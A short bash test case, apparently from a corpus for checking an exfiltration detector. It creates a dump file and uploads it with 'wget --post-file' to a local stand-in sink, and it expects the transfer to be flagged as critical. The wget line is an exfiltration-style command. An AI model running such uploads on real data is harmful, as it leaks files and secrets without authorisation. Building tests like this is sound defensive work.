#!/bin/bash
# B-wget-post: wget --post-file.
# flow: wget reads and writes 8 KiB.
# tools: wget
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink http
wget -q -O- --post-file="$D" "http://$SINK:$PORT/up"
sunk
